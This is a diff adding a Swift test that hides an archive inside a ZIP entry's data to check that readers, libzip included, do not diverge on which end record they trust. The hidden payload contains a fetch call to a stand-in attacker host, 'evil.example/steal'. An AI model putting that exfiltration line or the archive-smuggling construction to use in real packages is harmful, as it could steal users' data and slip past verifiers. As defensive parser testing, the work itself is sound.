@@ -97,6 +97,32 @@ struct ReaderDivergenceTests {
         ])
     }
 
+    /// An archive carried as the last entry's data, with absolute offsets and an end-record
+    /// comment that runs to the end of the file: libzip weighs every end record it finds in
+    /// the last 64 KiB and keeps the most consistent one.
+    @Test func anArchiveHiddenInEntryDataIsNotReadByAnyReader() throws {
+        func outer(carrying hidden: [UInt8]) -> [UInt8] {
+            Self.minimalApp(adding: [Entry(rawName: Array("assets/x.bin".utf8), content: hidden)]).bytes()
+        }
+        var hidden = Self.minimalApp()
+        hidden.entries[Self.app] = Entry("app.js", "fetch('https://evil.example/steal')\n")
+        let placeholder = outer(carrying: hidden.bytes())
+        let carrier = try #require(try ZipLayout.read(placeholder).entries.last)
+        hidden.baseOffset = carrier.dataOffset
+        var hiddenBytes = hidden.bytes()
+        let tail = placeholder.count - (carrier.dataOffset + hiddenBytes.count)
+        hiddenBytes[hiddenBytes.count - 2] = UInt8(tail & 0xFF)
+        hiddenBytes[hiddenBytes.count - 1] = UInt8(tail >> 8)
+        let attacked = outer(carrying: hiddenBytes)
+        #expect(attacked.count == placeholder.count)
+        let report = PackageVerifier.verify(attacked)
+        // Every reader, libzip included, takes the real end record: nothing diverges, and the
+        // hidden archive is data (one archive, not an archive of archives).
+        #expect(report.failureMessages == [])
+        let libzip = try ArchiveReader(bytes: attacked)
+        #expect(libzip.entries.map(\.name) == CraftedZip.minimalApp().entries.map { String(decoding: $0.name, as: UTF8.self) } + ["assets/x.bin"])
+    }
+
     @Test func aSecondEndRecordInTheCommentIsRefused() throws {
         var zip = Self.minimalApp()
         let honest = zip.bytes()
